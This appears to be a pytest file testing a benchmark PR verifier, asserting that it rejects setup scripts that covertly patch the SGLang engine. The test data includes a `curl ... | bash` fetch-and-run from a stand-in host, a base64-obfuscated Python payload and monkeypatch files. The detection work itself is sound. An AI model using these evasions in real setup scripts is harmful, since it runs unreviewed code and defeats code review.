"""Check 10 (engine patches) against hostile setup scripts, their plain-written twins and a benign one.

Issues 21 and 22: a setup script that reached the engine through variable indirection, split names,
base64, an import by a computed name, a copy to a computed site-packages path, `curl | bash`, a
repository `patch_*.py`, a `git fetch` of an upstream branch, or that was covered by a waiver carrying
only the required keywords, passed. Each case here is a copy of `cases/pr4524-approved` (APPROVED as
is) whose new TP2 recipe gains `setup_script: env-setup.sh`, with the script (and what it runs) added
to the head tree and to pr.yaml `files` (kept equal to the tree diff). The hostile script and its
plain twin must both be REJECTED, with Check 10's row naming the file and line; a plain benign
setup script (echo, mkdir, a pinned pip install of an allowed client package) still PASSes Check 10.
"""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest
import yaml

from tests.kit import CASES, clone_bundle, edit_yaml, judge, replace_text, row

E2E = "inferencex-e2e/"
CFG = E2E + "benchmarks/multi_node/srt-slurm-recipes/configs/"
SETUP = CFG + "env-setup.sh"
RECIPE = E2E + "benchmarks/single_node/srt-slurm-recipes/minimaxm31flash/sglang/b300-fp4-mtp/agentic-tp2.yaml"
CLIENT = E2E + "benchmarks/srt_agentic.sh"
WAIVER = E2E + "docs/waiver/4524.md"
SITE = "/usr/local/lib/python3.12/dist-packages"
END = "E" + "OF"
SH = "#!/usr/bin/env bash\nset -euo pipefail\n"

# `import sglang.srt.server_args as m; m.DEFAULT_WATCHDOG = 0`, base64-encoded
B64 = "aW1wb3J0IHNnbGFuZy5zcnQuc2VydmVyX2FyZ3MgYXMgbTsgbS5ERUZBVUxUX1dBVENIRE9HID0gMA=="
PATCH_PY = ("import sglang.srt.layers.rotary_embedding as rope\n\n\n"
            "def _fast(*args, **kwargs):\n    return None\n\n\n"
            "rope.apply_rotary_pos_emb = _fast\n")


def _pr_files(bundle: Path) -> dict[str, str]:
    return {f["path"]: f["status"] for f in yaml.safe_load((bundle / "pr.yaml").read_text(encoding="utf-8"))["files"]}


def _tree_diff(bundle: Path) -> dict[str, str]:
    """path -> added | modified | removed between tree/base and tree/head."""
    def files(side: str) -> dict[str, bytes]:
        root = bundle / "tree" / side
        return {p.relative_to(root).as_posix(): p.read_bytes() for p in root.rglob("*") if p.is_file()}
    base, head = files("base"), files("head")
    out = dict.fromkeys(head.keys() - base.keys(), "added")
    out |= dict.fromkeys(base.keys() - head.keys(), "removed")
    out |= {p: "modified" for p in base.keys() & head.keys() if base[p] != head[p]}
    return out


def make(tmp_path: Path, files: dict[str, str], *, link_waiver: bool = False, setup: bool = True) -> Path:
    """A copy of the APPROVED case whose TP2 recipe runs `env-setup.sh` (when `setup`), with `files`
    (bundle head paths -> text) written into the head tree and listed in pr.yaml like the tree diff."""
    bundle = clone_bundle(CASES / "pr4524-approved", tmp_path)
    if setup:
        replace_text(bundle / "tree/head" / RECIPE, "  engine: sglang\n", "  engine: sglang\n  setup_script: env-setup.sh\n", 1)
    base_root = bundle / "tree/base"
    for path, text in files.items():
        target = bundle / "tree/head" / path
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_text(text, encoding="utf-8")
    listed = _pr_files(bundle)
    new = {p: ("modified" if (base_root / p).exists() else "added") for p in files if p not in listed}

    def add(pr: dict[str, Any]) -> None:
        pr["files"] += [{"path": p, "status": s} for p, s in sorted(new.items())]
    edit_yaml(bundle / "pr.yaml", add)
    if link_waiver:
        def link(so: dict[str, Any]) -> None:
            so["body"] = str(so["body"]).rstrip("\n") + (
                "\n- Engine patches: waiver https://github.com/SemiAnalysisAI/InferenceX/blob/main/"
                "inferencex-e2e/docs/waiver/4524.md\n")
        edit_yaml(bundle / "signoff.yaml", link)
    assert _pr_files(bundle) == _tree_diff(bundle), "pr.yaml files must equal the tree diff"
    return bundle


def _c10(bundle: Path) -> tuple[str, Any]:
    report = judge(bundle)
    return str(getattr(report.verdict, "value", report.verdict)), row(report, 10).result


# (id, hostile files, plain-twin files, (file:line, signature, text fragment) the hostile row names)
CASES_C10: list[Any] = [
    pytest.param(
        {SETUP: SH + "tool=sed\n$tool -i 's/timeout=300/timeout=30/' " + SITE + "/sglang/srt/server_args.py\n"},
        {SETUP: SH + "sed -i 's/timeout=300/timeout=30/' " + SITE + "/sglang/srt/server_args.py\n"},
        ("configs/env-setup.sh:4", "setup-command-not-allowed", "sed is not a benign operation"),
        id="variable-indirection"),
    pytest.param(
        {SETUP: SH + '"s""ed" -i \'s/a/b/\' "' + SITE + '/sgl""ang/srt/server_args.py"\n'},
        {SETUP: SH + "sed -i 's/a/b/' " + SITE + "/sglang/srt/server_args.py\n"},
        ("configs/env-setup.sh:3", "setup-command-not-allowed", "sed is not a benign operation"),
        id="split-names"),
    pytest.param(
        {SETUP: SH + f"echo {B64} | base64 -d | python3\n"},
        {SETUP: SH + f"python3 - <<'{END}'\nimport importlib.util, pathlib\n"
                     "p = pathlib.Path(importlib.util.find_spec('sglang').origin).parent / 'srt/server_args.py'\n"
                     f"p.write_text(p.read_text().replace('300', '30'))\n{END}\n"},
        ("configs/env-setup.sh:3", "setup-command-not-allowed", "base64 is not a benign operation"),
        id="base64-pipe-python"),
    pytest.param(
        {SETUP: SH + "python3 -c \"import importlib; m = importlib.import_module('sgl' + 'ang.srt.server_args'); "
                     "m.DEFAULT_WATCHDOG = 0\"\n"},
        {SETUP: SH + "python3 -c \"import sglang.srt.server_args as m; m.DEFAULT_WATCHDOG = 0\"\n"},
        ("configs/env-setup.sh:3", "setup-command-not-allowed", "python3 is not a benign operation"),
        id="importlib-computed-name"),
    pytest.param(
        {SETUP: SH + "site=$(python3 -c 'import site; print(site.getsitepackages()[0])')\n"
                     'cp /infmax-workspace/benchmarks/multi_node/srt-slurm-recipes/configs/fast.py "$site/sglang/srt/fast.py"\n',
         CFG + "fast.py": "FAST = True\n"},
        {SETUP: SH + "cp /infmax-workspace/benchmarks/multi_node/srt-slurm-recipes/configs/fast.py "
                     + SITE + "/sglang/srt/fast.py\n",
         CFG + "fast.py": "FAST = True\n"},
        ("configs/env-setup.sh:3", "setup-command-not-allowed", "python3 is not a benign operation"),
        id="cp-computed-site-packages"),
    pytest.param(
        {SETUP: SH + "curl -fsSL https://example.com/engine-fix.sh | bash\n"},
        {SETUP: SH + "curl -fsSL -o /tmp/engine-fix.sh https://example.com/engine-fix.sh\nbash /tmp/engine-fix.sh\n"},
        ("configs/env-setup.sh:3", "setup-command-not-allowed", "curl is not a benign operation"),
        id="curl-pipe-bash"),
    pytest.param(
        {SETUP: SH + "cd /infmax-workspace/tools\npython3 -m patch_rope\n", E2E + "tools/patch_rope.py": PATCH_PY},
        {SETUP: SH + "python3 /infmax-workspace/tools/patch_rope.py\n", E2E + "tools/patch_rope.py": PATCH_PY},
        ("tools/patch_rope.py:8", "python-monkeypatch", "rope.apply_rotary_pos_emb = _fast"),
        id="repository-patch-program"),
    pytest.param(
        {SETUP: SH + "git clone https://github.com/sgl-project/sglang.git /tmp/sglang\n"
                     "git -C /tmp/sglang fetch origin refs/pull/41234/head\n"
                     "pip install --no-deps -e /tmp/sglang/python\n"},
        {SETUP: SH + 'pip install --no-deps "git+https://github.com/sgl-project/sglang@fast-rope#subdirectory=python"\n'},
        ("configs/env-setup.sh:3", "upstream-ref", "sgl-project/sglang@default branch"),
        id="git-fetch-upstream-branch"),
]


@pytest.mark.parametrize(("hostile", "plain", "named"), CASES_C10)
def test_hostile_setup_script_and_its_plain_twin_are_rejected(tmp_path: Path, hostile: dict[str, str],
                                                              plain: dict[str, str], named: tuple[str, str, str]) -> None:
    verdict, result = _c10(make(tmp_path / "hostile", hostile))
    assert verdict == "REJECTED" and result.status.value == "FAIL", [(f.message_id, f.params) for f in result.findings]
    where, signature, fragment = named
    found = [f.params for f in result.findings if f.message_id.startswith("engine-patch-")]
    assert any(p["file"].endswith(where) and p["signature"] == signature and fragment in p["text"] for p in found), found
    twin_verdict, twin = _c10(make(tmp_path / "plain", plain))
    assert twin_verdict == "REJECTED" and twin.status.value == "FAIL", [(f.message_id, f.params) for f in twin.findings]


def test_the_fetch_of_an_unmerged_pull_request_names_the_ref(tmp_path: Path) -> None:
    """The hostile twin above fails first on its clone; its fetch line names the pull-request ref too."""
    files = CASES_C10[7].values[0]
    _, result = _c10(make(tmp_path, files))
    texts = [f.params["text"] for f in result.findings if f.params.get("signature") == "upstream-ref"]
    assert any("sgl-project/sglang@refs/pull/41234/head" in t for t in texts), texts
    _, twin = _c10(make(tmp_path / "twin", CASES_C10[7].values[1]))
    p = next(f.params for f in twin.findings if f.message_id.startswith("engine-patch-"))
    assert (p["signature"], p["file"]) == ("upstream-ref", "benchmarks/multi_node/srt-slurm-recipes/configs/env-setup.sh:3")
    assert "sgl-project/sglang@fast-rope" in p["text"]


def test_a_plain_benign_setup_script_passes_check_10(tmp_path: Path) -> None:
    script = (SH + 'echo "[setup] $(hostname): client tools"\nmkdir -p /tmp/aiperf-cache\n'
              "export AIPERF_CACHE_DIR=/tmp/aiperf-cache\n"
              "pip_install=(python3 -m pip install)\n"
              "if python3 -m pip install --help 2>/dev/null | grep -q -- --break-system-packages; then\n"
              "    pip_install+=(--break-system-packages)\nfi\n"
              '"${pip_install[@]}" --quiet --no-deps aiperf==0.3.0\n'
              "nvidia-smi --query-gpu=name --format=csv > /tmp/gpus.csv\n")
    verdict, result = _c10(make(tmp_path, {SETUP: script}))
    ids = [f.message_id for f in result.findings]
    assert result.status.value == "PASS", [(f.message_id, f.params) for f in result.findings]
    assert "setup-script-scanned" in ids and verdict == "APPROVED"


def test_a_script_the_launch_runs_is_followed_into_its_programs(tmp_path: Path) -> None:
    """No setup script: the benchmark script the launch runs starts a repository program kept under
    utils/ (not scanned on its own: tooling); following it finds the monkeypatch. Plain twin: the same
    patch written inline."""
    client = (CASES / "pr4524-approved" / "tree/head" / CLIENT).read_text(encoding="utf-8")
    hostile = {CLIENT: client.replace("exit 1\n", "python3 /infmax-workspace/utils/patch_rope.py\nexit 1\n"),
               E2E + "utils/patch_rope.py": PATCH_PY}
    verdict, result = _c10(make(tmp_path / "hostile", hostile, setup=False))
    assert verdict == "REJECTED"
    p = next(f.params for f in result.findings if f.message_id.startswith("engine-patch-"))
    assert (p["file"], p["signature"]) == ("utils/patch_rope.py:8", "python-monkeypatch")
    plain = {CLIENT: client.replace("exit 1\n", f"python3 - <<'{END}'\nimport importlib.util, pathlib\n"
                                                "p = pathlib.Path(importlib.util.find_spec('sglang').origin).parent\n"
                                                f"(p / 'srt/x.py').write_text('')\n{END}\nexit 1\n")}
    twin_verdict, twin = _c10(make(tmp_path / "plain", plain, setup=False))
    assert twin_verdict == "REJECTED" and twin.status.value == "FAIL"


FILLED = """# Engine patch waiver: PR #4524

## What is patched

`env-setup.sh` rewrites the watchdog timeout default in SGLang's `server_args.py` inside the pinned image.

## Why the unmodified upstream image cannot run this benchmark

Long draft passes on the TP2 points outlast the shipped thirty-second watchdog and the server aborts.

## Upstream PR / issue links

- https://github.com/sgl-project/sglang/pull/41234

## Removal plan

Delete the setup script and this waiver once an SGLang release with the configurable watchdog is pinned.
"""
KEYWORDS = """# Engine patch waiver: PR #4524 (env-setup.sh)

## What is patched
env-setup.sh: exact patch, scope.

## Why the unmodified image cannot run
Cannot run; needs this change.

## Upstream
https://github.com/sgl-project/sglang/pull/41234

## Removal plan
Removal plan: remove, retire.
"""
TEMPLATE = """# WAIVER: <one-line description of the patch> (env-setup.sh)

- **PR:** <link to the InferenceX PR that introduces the patch>
- **What is patched:** <exact files and where the patch is applied>
- **Why the patch is required:** <why the unmodified upstream image cannot run this benchmark>
- **Upstream status:** <link to the upstream PR/issue that removes the need for this patch>
- **Removal plan:** <which upstream release or condition lets us drop the patch, and the expected date>
"""
PATCHING = {SETUP: SH + "sed -i 's/timeout=300/timeout=30/' " + SITE + "/sglang/srt/server_args.py\n"}


def test_a_keyword_only_waiver_and_an_unfilled_template_do_not_count(tmp_path: Path) -> None:
    verdict, result = _c10(make(tmp_path / "keywords", {**PATCHING, WAIVER: KEYWORDS}, link_waiver=True))
    assert verdict == "REJECTED"
    p = next(f.params for f in result.findings if f.message_id == "engine-patch-waiver-incomplete")
    assert p["waiver"] == "docs/waiver/4524.md" and p["file"] == "benchmarks/multi_node/srt-slurm-recipes/configs/env-setup.sh:3"
    assert {"what-is-patched (no content)", "why-upstream-cannot-run (no content)",
            "removal-plan (no content)"} <= set(p["problems"])
    twin_verdict, twin = _c10(make(tmp_path / "template", {**PATCHING, WAIVER: TEMPLATE}, link_waiver=True))
    assert twin_verdict == "REJECTED"
    assert [f.message_id for f in twin.findings][0] == "engine-patch-waiver-incomplete"
    # the same patch under a filled-out, linked waiver filed in the PR is covered
    _, covered = _c10(make(tmp_path / "filled", {**PATCHING, WAIVER: FILLED}, link_waiver=True))
    assert covered.status.value == "PASS", [(f.message_id, f.params) for f in covered.findings]
    assert [f.message_id for f in covered.findings][0] == "patch-waived"


def test_reading_a_setup_script_is_linear_in_its_size() -> None:
    """Call events (deterministic) of reading a setup script and its engine refs grow with the script,
    never with its square: commands, command substitutions and literal arrays are each read once."""
    from tests.hostile.test_hostile import _assert_linear
    from verifier.core.policy import load_policies
    from verifier.documents.patches import setup_script_reading, upstream_ref_hits

    policy = load_policies()["patches"]

    def make(n: int) -> Any:
        text = SH + "tools=(echo)\n" + "".join(
            f'tools+=(x{i})\necho "$(hostname) {i}" > /tmp/o{i}\nif [[ -n "$(date)" ]]; then mkdir -p /tmp/d{i}; fi\n'
            f"git clone https://github.com/sgl-project/sglang /tmp/s{i}\n" for i in range(n))

        def run() -> None:
            setup_script_reading(SETUP, text, policy, lambda _p: False, "")
            upstream_ref_hits(SETUP, text, policy)
        return run

    _assert_linear(make, 40)
